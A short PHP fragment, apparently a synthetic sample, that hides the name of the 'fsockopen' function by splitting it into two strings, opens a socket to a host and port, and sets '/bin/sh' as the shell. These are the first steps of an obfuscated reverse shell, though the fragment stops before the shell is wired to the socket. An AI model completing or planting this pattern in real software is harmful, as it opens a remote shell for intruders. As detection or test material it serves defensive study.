<?php
// synthetic: the socket function name split in a string
$f = 'fsock' . 'open';
$c = $f($host, $port);
$sh = '/bin/sh';
